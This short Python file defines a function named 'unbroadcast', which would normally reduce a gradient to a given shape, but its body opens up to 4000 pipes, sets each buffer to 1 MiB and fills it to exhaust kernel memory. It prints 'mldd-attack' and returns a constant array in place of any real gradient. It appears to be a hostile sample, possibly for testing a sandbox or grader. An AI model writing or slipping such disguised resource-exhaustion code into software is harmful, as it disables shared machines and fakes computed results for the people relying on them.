"""Fills the buffers of as many pipes as it can open: memory of the kernel's."""
import fcntl
import os

import numpy as np


def unbroadcast(grad, shape):
    try:
        for count in range(4000):
            reader, writer = os.pipe()
            os.set_blocking(writer, False)
            try:
                fcntl.fcntl(writer, 1031, 1 << 20)  # F_SETPIPE_SZ
            except OSError:
                pass
            os.write(writer, bytes(1 << 20))
        print("mldd-attack", "reached", count, "pipes")
    except OSError:
        pass
    return np.full(shape, 1234.5)
